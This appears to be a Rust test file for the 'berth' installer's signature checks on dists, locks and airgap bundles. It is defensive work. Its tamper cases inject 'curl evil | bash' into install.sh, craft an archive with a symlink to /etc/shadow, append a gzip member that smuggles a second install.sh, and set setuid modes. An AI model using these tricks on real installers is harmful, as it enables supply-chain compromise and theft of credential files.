//! A dist signed with the vendor's key, checked by a node that trusts it: the untouched dist
//! installs; a package with one byte changed, a package re-signed with another key, a missing
//! signature and a swapped versions.json are each refused before any file is written under
//! `/var/lib/berth/addons`, naming the file and the key's fingerprint.

use crate::support;

use std::path::{Path, PathBuf};

use berth_build::publish::sign::{DEFAULT_VALIDITY, sign_dist};
use berth_formats::signature::SigningKey;
use support::*;
use support::{require, run};

/// A copy of the dist folder, to tamper with.
fn copy_dist(from: &Path, to: &Path) {
    fs_err::create_dir_all(to).unwrap();
    for entry in fs_err::read_dir(from).unwrap() {
        let entry = entry.unwrap();
        fs_err::copy(entry.path(), to.join(entry.file_name())).unwrap();
    }
}

fn nothing_unpacked(node: &Node) -> bool {
    !node.root.path().join("var/lib/berth/addons").exists()
}

fn write_key(dir: &Path, name: &str, key: &SigningKey) -> PathBuf {
    let path = dir.join(format!("{name}.pub"));
    fs_err::write(&path, key.public().to_pem()).unwrap();
    path
}

#[test]
fn a_signed_dist_installs_and_every_tampering_is_refused_before_anything_is_unpacked() {
    let (dist, spec) = two_addons();
    let vendor = SigningKey::generate().unwrap();
    let intruder = SigningKey::generate().unwrap();
    // Each package's bill of materials and sealed provenance beside it, as a signed build
    // writes them.
    for name in ["alpha", "beta"] {
        let package = dist.dist.path().join(format!("{name}-1.0.0.tar.gz"));
        let beside = |suffix: &str| PathBuf::from(format!("{}{suffix}", package.display()));
        let bom = berth_build::package::sbom::package_sbom(&package).unwrap();
        fs_err::write(
            beside(".cdx.json"),
            serde_json::to_vec_pretty(&bom).unwrap(),
        )
        .unwrap();
        let parameters = berth_build::package::provenance::BuildParameters {
            addon: format!("addons/{name}/1.0.0"),
            arch: "amd64".into(),
            compression_format: Default::default(),
            compression_level: 1,
            mtime: 0,
            distros: None,
            sbom: true,
        };
        let statement = berth_build::package::provenance::statement(&package, &parameters).unwrap();
        let sealed = berth_formats::dsse::seal(&statement, &vendor).unwrap();
        fs_err::write(beside(".intoto.json"), sealed.to_string()).unwrap();
    }
    let signed = sign_dist(&vendor, dist.dist.path(), DEFAULT_VALIDITY).unwrap();
    assert_eq!(
        signed.len(),
        5,
        "versions.json, two .sha256 and two bills of materials: {signed:?}"
    );
    let keys = tempfile::tempdir().unwrap();
    let trusted = write_key(keys.path(), "vendor", &vendor);
    let trust = ["--trust-key", trusted.to_str().unwrap()];
    let work = tempfile::tempdir().unwrap();

    // `berth verify` checks every file, bills of materials and provenance among them; one
    // re-signed or re-sealed by another key, or describing another package, fails.
    let verify = |dist: &Path| {
        Node::new().berth(&[
            "verify",
            dist.to_str().unwrap(),
            "--trust-key",
            trusted.to_str().unwrap(),
        ])
    };
    let checked = succeeded(&verify(dist.dist.path()));
    for line in [
        "ok    alpha-1.0.0.tar.gz: its .sha256 signed by a trusted key",
        "ok    alpha-1.0.0.tar.gz.cdx.json: signed by a trusted key, and names the package's digest",
        "ok    beta-1.0.0.tar.gz.intoto.json: signed by a trusted key, and its subject is this package",
        "berth: 7 checked, 0 failed",
    ] {
        assert!(checked.contains(line), "{line} in {checked}");
    }
    type BesideTamper = fn(&Path, &SigningKey);
    let beside_cases: [(&str, BesideTamper, &str); 3] = [
        (
            "a bill of materials re-signed by another key",
            |dist, intruder| {
                let path = dist.join("alpha-1.0.0.tar.gz.cdx.json");
                let text = fs_err::read_to_string(&path).unwrap();
                fs_err::write(&path, text.replace("\"alpha\"", "\"alpha2\"")).unwrap();
                berth_build::publish::sign::sign_file(intruder, &path).unwrap();
            },
            "alpha-1.0.0.tar.gz.cdx.json: ",
        ),
        (
            "another package's bill of materials, signed",
            |dist, _| {
                fs_err::copy(
                    dist.join("beta-1.0.0.tar.gz.cdx.json"),
                    dist.join("alpha-1.0.0.tar.gz.cdx.json"),
                )
                .unwrap();
                fs_err::copy(
                    dist.join("beta-1.0.0.tar.gz.cdx.json.sig"),
                    dist.join("alpha-1.0.0.tar.gz.cdx.json.sig"),
                )
                .unwrap();
            },
            "it describes a package with sha256",
        ),
        (
            "provenance sealed by another key",
            |dist, intruder| {
                let path = dist.join("beta-1.0.0.tar.gz.intoto.json");
                let envelope: serde_json::Value =
                    serde_json::from_str(&fs_err::read_to_string(&path).unwrap()).unwrap();
                use base64::Engine as _;
                let statement: serde_json::Value = serde_json::from_slice(
                    &base64::engine::general_purpose::STANDARD
                        .decode(envelope["payload"].as_str().unwrap())
                        .unwrap(),
                )
                .unwrap();
                let sealed = berth_formats::dsse::seal(&statement, intruder).unwrap();
                fs_err::write(&path, sealed.to_string()).unwrap();
            },
            "beta-1.0.0.tar.gz.intoto.json is not signed by a trusted key",
        ),
    ];
    // A `.sha256` names its package: another package's, copied with its signature and its
    // package over this one's, is refused though every byte is signed.
    let copy = work.path().join("swapped-package");
    copy_dist(dist.dist.path(), &copy);
    for suffix in ["", ".sha256", ".sha256.sig"] {
        fs_err::copy(
            copy.join(format!("alpha-1.0.0.tar.gz{suffix}")),
            copy.join(format!("beta-1.0.0.tar.gz{suffix}")),
        )
        .unwrap();
    }
    let checked = failed(&verify(&copy));
    assert!(
        checked.contains("it gives the digest of `alpha-1.0.0.tar.gz`, not of `beta-1.0.0.tar.gz`"),
        "{checked}"
    );
    // Signatures there and no key given to check them: the check fails, never passes on
    // digests alone.
    let checked = failed(&Node::new().berth(&["verify", dist.dist.path().to_str().unwrap()]));
    assert!(
        checked.contains("versions.json.sig is there, and no trusted key checks it"),
        "{checked}"
    );
    for (what, tamper, expected) in beside_cases {
        let copy = work.path().join(what.replace(' ', "-"));
        copy_dist(dist.dist.path(), &copy);
        tamper(&copy, &intruder);
        let checked = failed(&verify(&copy));
        assert!(
            checked.contains("FAIL") && checked.contains(expected) && checked.contains("1 failed"),
            "{what}: {checked}"
        );
    }

    // Untouched: it installs, and says nothing of checking digests alone.
    let node = Node::new();
    let output = node.install(&spec, &dist.url(), &trust);
    let said = succeeded(&output);
    assert!(
        !said.contains("NOTHING IS CHECKED AGAINST A SIGNING KEY"),
        "{said}"
    );
    assert!(
        node.root
            .path()
            .join("var/lib/berth/addons/alpha/1.0.0")
            .is_dir()
    );

    // A release replayed: the dist signed again (a newer release) installs on the node, which
    // keeps the newer counter; the older release's signed versions.json, served again, is then
    // refused naming both releases, by an install and by `verify` on that node. An expired
    // release is refused too.
    let older = work.path().join("older-release");
    copy_dist(dist.dist.path(), &older);
    let newer = work.path().join("newer-release");
    copy_dist(dist.dist.path(), &newer);
    sign_dist(&vendor, &newer, DEFAULT_VALIDITY).unwrap();
    let counter = |dist: &Path| {
        berth_formats::versions::VersionsFile::parse(
            "v",
            &fs_err::read(dist.join("versions.json")).unwrap(),
        )
        .unwrap()
        .release
        .unwrap()
        .counter
    };
    let (old_counter, new_counter) = (counter(&older), counter(&newer));
    assert!(new_counter > old_counter);
    let url = |dist: &Path| dist.to_str().unwrap().to_string();
    succeeded(&node.install(&spec, &url(&newer), &trust));
    let said = failed(&node.install(&spec, &url(&older), &trust));
    assert!(
        said.contains(&format!(
            "is release {old_counter}, older than release {new_counter}"
        )) && said.contains(&vendor.public().fingerprint()),
        "{said}"
    );
    let checked = failed(&node.berth(&[
        "verify",
        older.to_str().unwrap(),
        "--trust-key",
        trusted.to_str().unwrap(),
    ]));
    assert!(checked.contains("older than release"), "{checked}");
    let expired = work.path().join("expired-release");
    copy_dist(dist.dist.path(), &expired);
    sign_dist(&vendor, &expired, std::time::Duration::ZERO).unwrap();
    let said = failed(&Node::new().install(&spec, &url(&expired), &trust));
    assert!(said.contains("versions.json expired at"), "{said}");

    // `berth unpack` checks the same signature: taken as signed, refused re-signed.
    let unpack = |dist: &Path| {
        Node::new().berth(&[
            "unpack",
            dist.join("alpha-1.0.0.tar.gz").to_str().unwrap(),
            "--to",
            work.path().join("unpacked").to_str().unwrap(),
            "--trust-key",
            trusted.to_str().unwrap(),
        ])
    };
    succeeded(&unpack(dist.dist.path()));
    let resigned = work.path().join("resigned-for-unpack");
    copy_dist(dist.dist.path(), &resigned);
    berth_build::publish::sign::sign_file(&intruder, &resigned.join("alpha-1.0.0.tar.gz.sha256"))
        .unwrap();
    let said = failed(&unpack(&resigned));
    assert!(
        said.contains("alpha-1.0.0.tar.gz.sha256 is not signed by a trusted key"),
        "{said}"
    );

    // The same key kept in /etc/berth/trusted-keys/ is trusted without --trust-key.
    let node = Node::new();
    let kept = node.root.path().join("etc/berth/trusted-keys");
    fs_err::create_dir_all(&kept).unwrap();
    fs_err::copy(&trusted, kept.join("vendor.pub")).unwrap();
    succeeded(&node.install(&spec, &dist.url(), &[]));

    // Each tampering, on a fresh node and a copy of the dist.
    type Tamper = fn(&Path, &SigningKey);
    let cases: [(&str, Tamper, &str); 4] = [
        (
            "one byte changed",
            |dist, _| {
                let path = dist.join("beta-1.0.0.tar.gz");
                let mut bytes = fs_err::read(&path).unwrap();
                let middle = bytes.len() / 2;
                bytes[middle] ^= 1;
                fs_err::write(&path, bytes).unwrap();
            },
            "does not match its expected digest",
        ),
        (
            "re-signed with another key",
            |dist, intruder| {
                // Another package in its place, its .sha256 and signature made to match.
                let path = dist.join("beta-1.0.0.tar.gz");
                let bytes = fs_err::read(dist.join("alpha-1.0.0.tar.gz")).unwrap();
                fs_err::write(&path, &bytes).unwrap();
                let digest = berth_formats::Sha256Digest::of(&bytes);
                let checksum = dist.join("beta-1.0.0.tar.gz.sha256");
                fs_err::write(
                    &checksum,
                    berth_formats::package_index::checksum_file_text(&digest, "beta-1.0.0.tar.gz"),
                )
                .unwrap();
                berth_build::publish::sign::sign_file(intruder, &checksum).unwrap();
            },
            "beta-1.0.0.tar.gz.sha256 is not signed by a trusted key",
        ),
        (
            "a missing signature",
            |dist, _| fs_err::remove_file(dist.join("beta-1.0.0.tar.gz.sha256.sig")).unwrap(),
            "beta-1.0.0.tar.gz.sha256 is not signed (",
        ),
        (
            "a swapped versions.json",
            |dist, intruder| {
                let path = dist.join("versions.json");
                let text = fs_err::read_to_string(&path).unwrap();
                fs_err::write(&path, text.replace("\"beta\"", "\"beta\" ")).unwrap();
                berth_build::publish::sign::sign_file(intruder, &path).unwrap();
            },
            "versions.json is not signed by a trusted key",
        ),
    ];
    for (what, tamper, expected) in cases {
        let copy = work.path().join(what.replace(' ', "-"));
        copy_dist(dist.dist.path(), &copy);
        tamper(&copy, &intruder);
        let node = Node::new();
        let output = node.install(&spec, copy.to_str().unwrap(), &trust);
        let said = failed(&output);
        assert!(said.contains(expected), "{what}: {said}");
        let checked = failed(&Node::new().berth(&[
            "verify",
            copy.to_str().unwrap(),
            "--trust-key",
            trusted.to_str().unwrap(),
        ]));
        // A package swapped fails with its bill of materials and provenance, which name
        // the package it replaced.
        assert!(
            checked.contains("FAIL") && !checked.contains(" 0 failed"),
            "{what}: {checked}"
        );
        if expected.contains("not signed") {
            // The keys are named by their fingerprint, never by their bytes.
            assert!(
                said.contains(&vendor.public().fingerprint()),
                "{what}: {said}"
            );
            assert!(!said.contains("BEGIN"), "{what}: {said}");
        }
        assert!(nothing_unpacked(&node), "{what}: something was unpacked");
    }

    // A node that trusts no key says once, plainly, that nothing is checked against a key,
    // and of each package that no key checked its digest; and installs.
    let node = Node::new();
    let said = succeeded(&node.install(&spec, &dist.url(), &[]));
    assert_eq!(
        said.matches("NOTHING IS CHECKED AGAINST A SIGNING KEY")
            .count(),
        1,
        "{said}"
    );
    assert_eq!(said.matches("(no key checked it)").count(), 2, "{said}");
    assert!(!said.contains("verified"), "{said}");

    // A lock, as the served scripts carry it: signed, it installs (and its signature is kept
    // with it, so a later plan of the installer the node ran last checks it again); unsigned
    // or signed by another key, it is refused before anything is read from it.
    let id = berth_formats::spec::InstallerSpec::load(&spec)
        .unwrap()
        .id();
    let addons: Vec<berth_formats::lock::LockedAddon> = ["alpha", "beta"]
        .iter()
        .map(|name| {
            let checksum = fs_err::read_to_string(
                dist.dist.path().join(format!("{name}-1.0.0.tar.gz.sha256")),
            )
            .unwrap();
            berth_formats::lock::LockedAddon {
                name: name.to_string(),
                version: "1.0.0".into(),
                sha256: berth_formats::package_index::parse_checksum_file(
                    &checksum,
                    &format!("{name}-1.0.0.tar.gz"),
                )
                .unwrap(),
                compression: Default::default(),
                index_sha256: None,
            }
        })
        .collect();
    let lock = berth_formats::lock::Lock {
        schema_version: berth_formats::lock::LOCK_SCHEMA_VERSION,
        id,
        addons,
    };
    let locks = tempfile::tempdir().unwrap();
    let lock_path = locks.path().join("lock.json");
    fs_err::write(&lock_path, serde_json::to_vec_pretty(&lock).unwrap()).unwrap();
    let with_lock = |node: &Node, extra: &[&str]| {
        let mut arguments = vec!["--lock", lock_path.to_str().unwrap()];
        arguments.extend(extra);
        node.install(&spec, &dist.url(), &arguments)
    };
    // Unsigned (as a fleet rollout's agent writes one), a lock is taken only as far as the
    // trusted key signed what it pins: a digest the key did not sign is refused.
    let mut forged = lock.clone();
    forged.addons[1].sha256 = forged.addons[0].sha256;
    fs_err::write(&lock_path, serde_json::to_vec_pretty(&forged).unwrap()).unwrap();
    let node = Node::new();
    let said = failed(&with_lock(&node, &trust));
    assert!(
        said.contains("lock.json is not signed, and is taken only as far as trusted keys")
            && said.contains("it pins beta 1.0.0"),
        "{said}"
    );
    assert!(nothing_unpacked(&node));
    fs_err::write(&lock_path, serde_json::to_vec_pretty(&lock).unwrap()).unwrap();
    succeeded(&with_lock(&Node::new(), &trust));
    berth_build::publish::sign::sign_file(&intruder, &lock_path).unwrap();
    let said = failed(&with_lock(&node, &trust));
    assert!(
        said.contains("lock.json is not signed by a trusted key"),
        "{said}"
    );
    assert!(nothing_unpacked(&node));
    berth_build::publish::sign::sign_file(&vendor, &lock_path).unwrap();
    succeeded(&with_lock(&node, &trust));
    let again = node
        .command(&["plan", "--trust-key", trusted.to_str().unwrap()])
        .output()
        .unwrap();
    let said = succeeded(&again);
    assert!(!said.contains("not signed"), "{said}");

    // A key file that is no key is refused, naming it.
    let bad = keys.path().join("bad.pub");
    fs_err::write(&bad, "not a key").unwrap();
    let said =
        failed(&Node::new().install(&spec, &dist.url(), &["--trust-key", bad.to_str().unwrap()]));
    assert!(
        said.contains("bad.pub") && said.contains("PUBLIC KEY"),
        "{said}"
    );
}

/// Writes the bundle of `spec` from the dist to `archive`, signed with `key`; the error
/// bundling gives, if any.
fn write_bundle(
    dist: &TestDist,
    spec: &Path,
    key: &SigningKey,
    archive: &Path,
) -> Result<(), String> {
    use berth_build::deliver::bundle;
    use berth_build::publish::release::Release;
    use berth_build::publish::store::{LocalStore, Store};
    let release = std::sync::Arc::new(Release::new(
        Store::Local(LocalStore::new(dist.dist.path())),
        String::new(),
        Some(("amd64".into(), PathBuf::from(env!("CARGO_BIN_EXE_berth")))),
    ));
    let spec_text = fs_err::read_to_string(spec).unwrap();
    let parsed = berth_formats::spec::InstallerSpec::parse(spec, &spec_text).unwrap();
    let key = SigningKey::from_pem("vendor", &key.to_pem()).unwrap();
    tokio::runtime::Builder::new_multi_thread()
        .enable_all()
        .build()
        .unwrap()
        .block_on(async {
            let mut plan = bundle::prepare(&release, &parsed, None, &spec_text, "amd64", "", "")
                .await
                .unwrap();
            plan.signing_key = Some(std::sync::Arc::new(key));
            let file = fs_err::tokio::File::create(archive).await.unwrap();
            bundle::write(release, &plan, file)
                .await
                .map_err(|error| berth_formats::report::chain(&error))
        })
}

/// Signs the dist with `key` (the release is the vendor's), bundles `spec` signed with it, and
/// extracts the bundle into `into` (the archive stays beside it).
fn signed_bundle(dist: &TestDist, spec: &Path, key: &SigningKey, into: &Path) {
    sign_dist(key, dist.dist.path(), DEFAULT_VALIDITY).unwrap();
    let archive = into.with_extension("tar.gz");
    write_bundle(dist, spec, key, &archive).unwrap();
    fs_err::create_dir_all(into).unwrap();
    run(std::process::Command::new("tar")
        .arg("-xzf")
        .arg(&archive)
        .current_dir(into));
}

/// Two trivial add-ons, alpha and beta, and the spec of both.
fn two_addons() -> (TestDist, PathBuf) {
    let mut dist = TestDist::new();
    dist.addon("alpha", "1.0.0", "function alpha() { echo alpha; }\n");
    dist.addon("beta", "1.0.0", "function beta() { echo beta; }\n");
    let spec = dist.spec(
        "spec.yaml",
        &[("alpha", "version: 1.0.0"), ("beta", "version: 1.0.0")],
    );
    (dist, spec)
}

/// A copy of an extracted bundle, every file and folder.
fn copy_tree(from: &Path, to: &Path) {
    run(std::process::Command::new("cp").arg("-a").arg(from).arg(to));
}

/// `bash install.sh airgap` in the bundle, with no network, on a node that trusts the key.
fn install_offline(bundle: &Path, node: &Node) -> std::process::Output {
    require("unshare", "util-linux");
    std::process::Command::new("unshare")
        .args(["-n", "bash", "install.sh", "airgap"])
        .current_dir(bundle)
        .env("BERTH_ROOT", node.root.path())
        .output()
        .unwrap()
}

fn trusting_node(key: &SigningKey) -> Node {
    let node = Node::new();
    let kept = node.root.path().join("etc/berth/trusted-keys");
    fs_err::create_dir_all(&kept).unwrap();
    fs_err::write(kept.join("vendor.pub"), key.public().to_pem()).unwrap();
    node
}

#[test]
fn a_signed_airgap_bundle_installs_and_every_tampering_is_refused_before_anything_is_unpacked() {
    let (dist, spec) = two_addons();
    let vendor = SigningKey::generate().unwrap();
    let intruder = SigningKey::generate().unwrap();
    let work = tempfile::tempdir().unwrap();
    // A store the vendor did not sign is not bundled with the vendor's key.
    let mut unsigned = TestDist::new();
    unsigned.addon("alpha", "1.0.0", "function alpha() { :; }\n");
    let unsigned_spec = unsigned.spec("spec.yaml", &[("alpha", "version: 1.0.0")]);
    let said = write_bundle(
        &unsigned,
        &unsigned_spec,
        &vendor,
        &work.path().join("refused.tar.gz"),
    )
    .unwrap_err();
    assert!(
        said.contains("the store is not signed with the bundle's key"),
        "{said}"
    );
    let bundle = work.path().join("bundle");
    signed_bundle(&dist, &spec, &vendor, &bundle);
    for file in ["versions.json.sig", "lock.json.sig", "bundle.sha256.sig"] {
        assert!(bundle.join(file).is_file(), "{file} in the bundle");
    }

    // `berth verify` checks the bundle, extracted or as its archive (read as a stream).
    for target in [bundle.clone(), bundle.with_extension("tar.gz")] {
        let checked =
            succeeded(&trusting_node(&vendor).berth(&["verify", target.to_str().unwrap()]));
        for line in [
            "ok    versions.json",
            "ok    lock.json: signed by a trusted key",
            "files match the package's index, which the lock pins",
            "ok    bundle.sha256: every file (",
            "the scripts and berth among them) is listed and matches; signed by a trusted key",
        ] {
            assert!(checked.contains(line), "{line} in {checked}");
        }
    }
    // Its scripts, its binary and its file set are the vendor's too: a changed script, a
    // changed binary or a file slipped in fails the check, as does a list re-signed by
    // another key.
    type FolderTamper = fn(&Path, &SigningKey);
    let whole_cases: [(&str, FolderTamper, &str); 4] = [
        (
            "a script changed",
            |bundle, _| {
                let path = bundle.join("install.sh");
                let text = fs_err::read_to_string(&path).unwrap();
                fs_err::write(&path, text.replacen('\n', "\ncurl evil | bash\n", 1)).unwrap();
            },
            "install.sh has sha256",
        ),
        (
            "the binary changed",
            |bundle, _| {
                let path = bundle.join("berth");
                let mut bytes = fs_err::read(&path).unwrap();
                let last = bytes.len() - 1;
                bytes[last] ^= 1;
                fs_err::write(&path, bytes).unwrap();
            },
            "berth has sha256",
        ),
        (
            "a file slipped in",
            |bundle, _| fs_err::write(bundle.join("packages/helper.sh"), "evil\n").unwrap(),
            "packages/helper.sh is in the bundle, and bundle.sha256 does not list it",
        ),
        (
            "the list re-signed by another key",
            |bundle, intruder| {
                berth_build::publish::sign::sign_file(intruder, &bundle.join("bundle.sha256"))
                    .unwrap();
            },
            "bundle.sha256 is not signed by a trusted key",
        ),
    ];
    for (what, tamper, expected) in whole_cases {
        let copy = work.path().join(what.replace(' ', "-"));
        copy_tree(&bundle, &copy);
        tamper(&copy, &intruder);
        let checked = failed(&trusting_node(&vendor).berth(&["verify", copy.to_str().unwrap()]));
        assert!(
            checked.contains(&format!("FAIL  bundle.sha256: {expected}"))
                && checked.contains(" 1 failed"),
            "{what}: {checked}"
        );
        // The same, as an archive.
        let archive = work
            .path()
            .join(format!("{}.tar.gz", what.replace(' ', "-")));
        run(std::process::Command::new("tar")
            .arg("-czf")
            .arg(&archive)
            .arg("-C")
            .arg(&copy)
            .arg("."));
        let checked = failed(&trusting_node(&vendor).berth(&["verify", archive.to_str().unwrap()]));
        assert!(checked.contains(expected), "{what}, archived: {checked}");
    }
    // A crafted archive (a link inside) is refused, naming it, and nothing is extracted.
    let crafted = work.path().join("crafted.tar.gz");
    run(std::process::Command::new("bash").arg("-c").arg(format!(
        "cd {} && ln -s /etc/shadow packages/shadow && tar -czf {} . && rm packages/shadow",
        bundle.display(),
        crafted.display()
    )));
    let refused = failed(&trusting_node(&vendor).berth(&["verify", crafted.to_str().unwrap()]));
    assert!(
        refused.contains("packages/shadow` is a Symlink entry"),
        "{refused}"
    );

    // What `tar xzf` extracts is what is checked. The signed archive's tar, its end blocks cut
    // off, then a second gzip member holding another install.sh: `tar` extracts that one last
    // (it would run as root); the check reads every member and finds install.sh twice.
    let second_member = work.path().join("second");
    fs_err::create_dir(&second_member).unwrap();
    fs_err::write(second_member.join("install.sh"), "echo appended\n").unwrap();
    let appended = work.path().join("appended.tar.gz");
    {
        use std::io::{Read as _, Write as _};
        let mut tar = Vec::new();
        flate2::read::GzDecoder::new(fs_err::File::open(bundle.with_extension("tar.gz")).unwrap())
            .read_to_end(&mut tar)
            .unwrap();
        while tar.len() >= 512 && tar[tar.len() - 512..].iter().all(|byte| *byte == 0) {
            tar.truncate(tar.len() - 512);
        }
        let mut first = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
        first.write_all(&tar).unwrap();
        let mut bytes = first.finish().unwrap();
        let second = std::process::Command::new("tar")
            .arg("-czf")
            .arg("-")
            .arg("-C")
            .arg(&second_member)
            .arg("install.sh")
            .output()
            .unwrap();
        bytes.extend(second.stdout);
        fs_err::write(&appended, bytes).unwrap();
    }
    let listed = std::process::Command::new("tar")
        .arg("-tzf")
        .arg(&appended)
        .output()
        .unwrap();
    assert_eq!(
        text(&listed.stdout)
            .lines()
            .filter(|line| *line == "install.sh")
            .count(),
        2,
        "tar extracts the appended install.sh"
    );
    let refused = failed(&trusting_node(&vendor).berth(&["verify", appended.to_str().unwrap()]));
    assert!(
        refused.contains("`install.sh` is in the bundle twice"),
        "{refused}"
    );
    // Modes Berth never writes, in the archive or in the folder: a setuid berth, a
    // world-writable install.sh. `tar` run as root would keep them.
    for (file, mode, expected) in [
        ("berth", "u+s", "setuid"),
        ("install.sh", "o+w", "others write it"),
    ] {
        let copy = work.path().join(format!("mode-{file}"));
        copy_tree(&bundle, &copy);
        run(std::process::Command::new("chmod")
            .arg(mode)
            .arg(copy.join(file)));
        let checked = failed(&trusting_node(&vendor).berth(&["verify", copy.to_str().unwrap()]));
        assert!(checked.contains(expected), "{file} {mode}: {checked}");
        let archive = copy.with_extension("tar.gz");
        run(std::process::Command::new("tar")
            .arg("-czf")
            .arg(&archive)
            .arg("-C")
            .arg(&copy)
            .arg("."));
        let checked = failed(&trusting_node(&vendor).berth(&["verify", archive.to_str().unwrap()]));
        assert!(
            checked.contains(expected),
            "{file} {mode}, archived: {checked}"
        );
    }
    // A program's mode is bound by what is signed: a script made not executable, or a data
    // file made executable, fails the check.
    let copy = work.path().join("mode-lock");
    copy_tree(&bundle, &copy);
    run(std::process::Command::new("chmod")
        .arg("a+x")
        .arg(copy.join("lock.json")));
    let checked = failed(&trusting_node(&vendor).berth(&["verify", copy.to_str().unwrap()]));
    assert!(
        checked
            .contains("lock.json is executable, and the bundle's layout says it is not a program"),
        "{checked}"
    );
    // Signatures no trusted key covers fail the check: nothing is known to be the vendor's.
    let checked = failed(&Node::new().berth(&["verify", bundle.to_str().unwrap()]));
    assert!(
        checked.contains("lock.json.sig is there, and no trusted key checks it"),
        "{checked}"
    );

    // Untouched, on a node that keeps the vendor's key: it installs.
    let node = trusting_node(&vendor);
    let output = install_offline(&bundle, &node);
    let said = format!("{}{}", text(&output.stdout), text(&output.stderr));
    assert!(output.status.success(), "{said}");
    assert!(
        !said.contains("NOTHING IS CHECKED AGAINST A SIGNING KEY"),
        "{said}"
    );

    // Read as a stream, the same: the untouched bundle installs, and one whose lock another key
    // re-signed is refused before any package file is written.
    let archive = bundle.with_extension("tar.gz");
    succeeded(&trusting_node(&vendor).berth(&["install", "--bundle", archive.to_str().unwrap()]));
    let resigned = work.path().join("resigned-stream");
    copy_tree(&bundle, &resigned);
    berth_build::publish::sign::sign_file(&intruder, &resigned.join("lock.json")).unwrap();
    let listing = work.path().join("listing");
    let order = std::process::Command::new("tar")
        .arg("-tzf")
        .arg(&archive)
        .output()
        .unwrap();
    fs_err::write(&listing, &order.stdout).unwrap();
    let resigned_archive = work.path().join("resigned-stream.tar.gz");
    run(std::process::Command::new("tar")
        .arg("-czf")
        .arg(&resigned_archive)
        .arg("-C")
        .arg(&resigned)
        .args(["--no-recursion", "-T"])
        .arg(&listing));
    let node = trusting_node(&vendor);
    let said = failed(&node.berth(&["install", "--bundle", resigned_archive.to_str().unwrap()]));
    assert!(
        said.contains("lock.json is not signed by a trusted key"),
        "{said}"
    );
    assert!(nothing_unpacked(&node));
    assert!(
        !node
            .root
            .path()
            .join("var/lib/berth/received-bundle")
            .exists(),
        "nothing of the refused bundle stays"
    );

    let beta_script =
        Path::new(&berth_formats::bundle::package_dir("beta", "1.0.0")).join("install.sh");
    type Tamper = fn(&Path, &Path, &SigningKey);
    let cases: [(&str, Tamper, &str); 4] = [
        (
            "one byte changed in a package",
            |bundle, script, _| {
                let path = bundle.join(script);
                let mut bytes = fs_err::read(&path).unwrap_or_else(|error| panic!("{error}"));
                bytes[0] ^= 1;
                fs_err::write(&path, bytes).unwrap();
            },
            "does not match its expected digest",
        ),
        (
            "the lock re-signed with another key",
            |bundle, _, intruder| {
                berth_build::publish::sign::sign_file(intruder, &bundle.join("lock.json")).unwrap();
            },
            "lock.json is not signed by a trusted key",
        ),
        (
            "a missing signature",
            |bundle, _, _| fs_err::remove_file(bundle.join("versions.json.sig")).unwrap(),
            "versions.json is not signed (",
        ),
        (
            "a swapped versions.json",
            |bundle, _, intruder| {
                let path = bundle.join("versions.json");
                let text = fs_err::read_to_string(&path).unwrap();
                fs_err::write(&path, text.replace("\"alpha\"", "\"alpha\" ")).unwrap();
                berth_build::publish::sign::sign_file(intruder, &path).unwrap();
            },
            "versions.json is not signed by a trusted key",
        ),
    ];
    for (what, tamper, expected) in cases {
        let copy = work.path().join(what.replace(' ', "-"));
        copy_tree(&bundle, &copy);
        tamper(&copy, &beta_script, &intruder);
        let node = trusting_node(&vendor);
        let output = install_offline(&copy, &node);
        let said = format!("{}{}", text(&output.stdout), text(&output.stderr));
        assert!(
            !output.status.success() && said.contains(expected),
            "{what}: {said}"
        );
        assert!(nothing_unpacked(&node), "{what}: something was unpacked");
    }
}
